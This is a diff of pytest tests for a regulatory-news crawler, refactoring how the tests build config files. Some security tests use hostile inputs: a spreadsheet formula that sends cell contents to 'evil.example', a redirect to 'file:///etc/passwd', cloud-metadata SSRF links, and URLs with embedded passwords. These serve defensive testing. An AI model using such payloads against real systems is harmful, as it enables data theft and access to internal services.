@@ -16,7 +16,8 @@ from pathlib import Path
 
 import pytest
 from conftest import REGWATCH
-from support.news import art, article_page, publish
+from support.config import chat, write_config
+from support.news import art, article_page, feed_source, publish
 from support.servers import Page, Site
 
 GOOD = "监管部门要求持牌消费金融公司将综合融资成本压降至20%以内，年化利率上限进一步下调，部分高定价产品暂停发放。"
@@ -164,33 +165,13 @@ def test_links_reach_only_their_origin_and_public_addresses(tmp_path, site, rw):
         meta.pages["/list"] = Page(f'<ul><li><a href="{meta.url}/latest/meta-data/iam">x</a></li></ul>'.encode())
 
         def config(block: str) -> Path:
-            cfg = tmp_path / f"rw-{block or 'default'}.toml"
-            cfg.write_text(f"""[store]
-path = "{tmp_path}/rw-{block or 'default'}.db"
-[crawl]
-delay = "0s"
-{block}
-[[sources]]
-name = "feed"
-kind = "feed"
-url = "{site.url}/feed.xml"
-[[sources]]
-name = "index"
-kind = "sitemap"
-url = "{site.url}/sitemap-index.xml"
-[[sources]]
-name = "api"
-kind = "json"
-url = "{site.url}/api/news"
-items = "data.list"
-link = "url"
-[[sources]]
-name = "moved"
-kind = "listing"
-url = "{site.url}/moved"
-links = "ul a"
-""", encoding="utf-8")
-            return cfg
+            return write_config(tmp_path, name=f"rw-{block or 'default'}.toml",
+                                store={"path": f"{tmp_path}/rw-{block or 'default'}.db"}, crawl=block, sources=[
+                                    feed_source(site),
+                                    {"name": "index", "kind": "sitemap", "url": f"{site.url}/sitemap-index.xml"},
+                                    {"name": "api", "kind": "json", "url": f"{site.url}/api/news", "items": "data.list",
+                                     "link": "url"},
+                                    {"name": "moved", "kind": "listing", "url": f"{site.url}/moved", "links": "ul a"}])
 
         cfg = config("")     # the default: block_private_networks = true
         r = rw("baseline", "-c", cfg)
@@ -345,13 +326,10 @@ def test_the_check_uses_the_answer_the_connection_uses():
 
 
 def test_a_secret_in_a_source_url_is_never_shown_or_stored(tmp_path, site, receiver, rw):
-    receiver.routes["gw"] = {"type": "webhook"}
-    cfg = tmp_path / "regwatch.toml"
-    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"
-[[sources]]\nname = "api"\nkind = "json"\nurl = "{site.url}/v1/${{RW_API_KEY}}/news?page=1"\nitems = "data"\nlink = "url"
-[[channels]]\nname = "gw"\ntype = "webhook"\nurl = "{receiver.url}/gw"
-[alerts]\nfailing_after = 1\nhealth_channels = ["gw"]\nonce_wait = "5s"
-""", encoding="utf-8")
+    cfg = write_config(tmp_path, sources=[{"name": "api", "kind": "json", "url": f"{site.url}/v1/${{RW_API_KEY}}/news?page=1",
+                                           "items": "data", "link": "url"}],
+                       channels=[chat(receiver, "gw")], subscriptions=[],
+                       alerts={"failing_after": 1, "health_channels": ["gw"], "once_wait": "5s"})
     env = {"RW_API_KEY": "Zq8PRIVATEapikey"}
     r = rw("run", "--once", "-c", cfg, env=env)             # the API answers 404: an error naming its URL
     assert r.returncode == 0, r.stderr[-2000:]
@@ -383,14 +361,10 @@ def test_untrusted_text_in_the_terminal_a_spreadsheet_and_the_report(tmp_path, s
 
     body = f"<p>{GOOD}</p>"
     api([{"url": f"{site.url}/a/0", "title": "旧闻", "body": "<p>银行发布年度报告，全年营业收入同比增长。</p>"}])
-    cfg = tmp_path / "regwatch.toml"
-    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"
-[[sources]]\nname = "api"\nkind = "json"\nurl = "{site.url}/api/news"
-items = "data"\nlink = "url"\ntitle = "title"\nbody = "body"
-[[channels]]\nname = "gw"\ntype = "webhook"\nurl = "{receiver.url}/gw"
-[[subscriptions]]\nname = "caps"\ntopics = ["rate_cap"]\nchannels = ["gw"]
-[alerts]\nonce_wait = "5s"
-""", encoding="utf-8")
+    cfg = write_config(tmp_path, sources=[{"name": "api", "kind": "json", "url": f"{site.url}/api/news", "items": "data",
+                                           "link": "url", "title": "title", "body": "body"}],
+                       channels=[chat(receiver, "gw")], alerts={"once_wait": "5s"},
+                       subscriptions=[{"name": "caps", "topics": ["rate_cap"], "channels": ["gw"]}])
     assert rw("baseline", "-c", cfg).returncode == 0
     api([{"url": f"{site.url}/a/1", "title": ESC_TITLE, "body": body},
          {"url": f"{site.url}/a/2", "title": '=HYPERLINK("http://evil.example/?"&A1,"利率上限")', "body": OTHER}])
@@ -459,11 +433,8 @@ def test_the_daemon_stops_within_30s_whatever_it_is_doing(tmp_path, site):
     site.pages["/slow"] = Page(b"", raw=trickle)
     site.pages["/a/heavy.html"] = _slow_page(180_000)
     site.pages["/feed.xml"] = _rss(f"{site.url}/a/heavy.html")
-    cfg = tmp_path / "regwatch.toml"
-    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"\ntimeout = "10m"\nextract_timeout = "10m"
-[[sources]]\nname = "slow"\nkind = "listing"\nurl = "{site.url}/slow"\nlinks = "a"
-[[sources]]\nname = "feed"\nkind = "feed"\nurl = "{site.url}/feed.xml"
-""", encoding="utf-8")
+    cfg = write_config(tmp_path, crawl={"timeout": "10m", "extract_timeout": "10m"}, sources=[
+        {"name": "slow", "kind": "listing", "url": f"{site.url}/slow", "links": "a"}, feed_source(site)])
     p = subprocess.Popen([REGWATCH, "run", "-c", str(cfg)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
     try:
         for _ in range(300):
@@ -489,10 +460,7 @@ def test_an_extraction_over_its_limits_is_an_error_of_its_source(tmp_path, site,
     site.pages["/feed.xml"] = _rss(f"{site.url}/a/slow.html", f"{site.url}/a/huge.html", f"{site.url}/a/ok.html")
 
     def run(limits: str) -> dict:
-        cfg = tmp_path / "regwatch.toml"
-        cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"\n{limits}
-[[sources]]\nname = "feed"\nkind = "feed"\nurl = "{site.url}/feed.xml"
-""", encoding="utf-8")
+        cfg = write_config(tmp_path, crawl=limits, sources=[feed_source(site)])
         r = rw("baseline", "-c", cfg, timeout=170)
         assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
         return json.loads(rw("sources", "--json", "-c", cfg).stdout)
@@ -745,13 +713,11 @@ def test_no_page_can_pin_a_core(tmp_path, site, rw):
     site.pages["/gate"] = Page(b"<html><body>please enable javascript" + b"<script>x" * 20_000)   # 180 KB
     site.pages["/jsonp"] = Page(b"cb()" + b" " * 300_000 + b"x", ctype="application/javascript")
     site.pages["/brackets"] = Page(b"<" * 2_000_000 + b'<ul><li><a href="/a/c.html">x</a></li></ul>', ctype="text/html")
-    cfg = tmp_path / "regwatch.toml"
-    cfg.write_text(f"""[store]\npath = "{tmp_path}/rw.db"\n[crawl]\ndelay = "0s"
-[[sources]]\nname = "comments"\nkind = "feed"\nurl = "{site.url}/comments.xml"
-[[sources]]\nname = "gate"\nkind = "listing"\nurl = "{site.url}/gate"\nlinks = "ul a"
-[[sources]]\nname = "jsonp"\nkind = "json"\nurl = "{site.url}/jsonp"\nitems = "data"\nlink = "url"
-[[sources]]\nname = "brackets"\nkind = "listing"\nurl = "{site.url}/brackets"\nlinks = "ul a"
-""", encoding="utf-8")
+    cfg = write_config(tmp_path, sources=[
+        {"name": "comments", "kind": "feed", "url": f"{site.url}/comments.xml"},
+        {"name": "gate", "kind": "listing", "url": f"{site.url}/gate", "links": "ul a"},
+        {"name": "jsonp", "kind": "json", "url": f"{site.url}/jsonp", "items": "data", "link": "url"},
+        {"name": "brackets", "kind": "listing", "url": f"{site.url}/brackets", "links": "ul a"}])
     r = rw("baseline", "-c", cfg, timeout=120)
     assert r.returncode == 0, r.stderr[-2000:]
     rows = {r["source"]: r for r in map(json.loads, rw("sources", "--json", "-c", cfg).stdout.splitlines())}
@@ -841,22 +807,8 @@ def test_redirects_into_this_crawl_and_refused_redirects_say_what_happened(tmp_p
     site.pages["/feed.xml"] = _rss(f"{u}/a/c1.html", f"{u}/r/c1", f"{u}/r/cl", f"{u}/r/cl2", f"{u}/r/file",
                                    f"{u}/r/ftp", f"{u}/r/data", f"{u}/r/js", f"{u}/a/endless.html", bidi)
     site.pages["/moved"] = _redirect_to("file:///etc/passwd")
-    cfg = tmp_path / "rw.toml"
-    cfg.write_text(f"""[store]
-path = "{tmp_path}/rw.db"
-[crawl]
-delay = "0s"
-max_size = 300000
-[[sources]]
-name = "canon"
-kind = "feed"
-url = "{u}/feed.xml"
-[[sources]]
-name = "moved"
-kind = "listing"
-url = "{u}/moved"
-links = "ul a"
-""", encoding="utf-8")
+    cfg = write_config(tmp_path, name="rw.toml", crawl={"max_size": 300000}, sources=[
+        feed_source(site, "canon"), {"name": "moved", "kind": "listing", "url": f"{u}/moved", "links": "ul a"}])
     for _ in range(2):
         r = rw("run", "--once", "-c", cfg)
         assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
@@ -897,16 +849,7 @@ def test_a_link_with_a_password_is_refused_up_front_and_the_password_never_shown
     assert redact("http://***@10.0.0.1/ui1: invalid hostname: admin:hunter2@10.0.0.1") == \
         "http://***@10.0.0.1/ui1: invalid hostname: ***@10.0.0.1"
     site.pages["/feed.xml"] = _rss("http://admin:hunter2@10.0.0.1/ui1", "http://admin:hunter2@example.com/ui2")
-    cfg = tmp_path / "rw.toml"
-    cfg.write_text(f"""[store]
-path = "{tmp_path}/rw.db"
-[crawl]
-delay = "0s"
-[[sources]]
-name = "feed"
-kind = "feed"
-url = "{site.url}/feed.xml"
-""", encoding="utf-8")
+    cfg = write_config(tmp_path, name="rw.toml", sources=[feed_source(site)])
     r = rw("run", "--once", "-c", cfg)
     assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
     shown = rw("sources", "-c", cfg)
@@ -929,16 +872,7 @@ def _close_at_once(h):
 def test_a_server_that_closes_the_connection_is_one_clear_line(tmp_path, site, rw):
     site.pages["/feed.xml"] = _rss(f"{site.url}/a/closed.html")
     site.pages["/a/closed.html"] = Page(b"", raw=_close_at_once)
-    cfg = tmp_path / "rw.toml"
-    cfg.write_text(f"""[store]
-path = "{tmp_path}/rw.db"
-[crawl]
-delay = "0s"
-[[sources]]
-name = "feed"
-kind = "feed"
-url = "{site.url}/feed.xml"
-""", encoding="utf-8")
+    cfg = write_config(tmp_path, name="rw.toml", sources=[feed_source(site)])
     r = rw("run", "--once", "-c", cfg)
     assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr[-2000:]
     db = sqlite3.connect(tmp_path / "rw.db")
